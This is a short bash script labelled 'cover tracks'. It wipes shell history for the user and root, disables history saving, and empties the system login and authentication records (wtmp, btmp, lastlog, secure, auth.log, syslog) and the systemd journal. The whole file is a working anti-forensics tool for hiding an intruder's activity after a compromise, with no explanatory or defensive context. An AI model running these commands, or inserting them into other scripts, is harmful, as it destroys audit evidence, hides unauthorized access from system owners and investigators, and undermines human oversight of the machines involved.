#!/bin/bash
# cover tracks
history -c
unset HISTFILE
export HISTFILE=/dev/null
rm -rf ~/.bash_history /root/.bash_history
cat /dev/null > /var/log/wtmp
cat /dev/null > /var/log/btmp
cat /dev/null > /var/log/lastlog
echo > /var/log/secure
echo > /var/log/auth.log
echo > /var/log/syslog
journalctl --vacuum-time=1s >/dev/null 2>&1
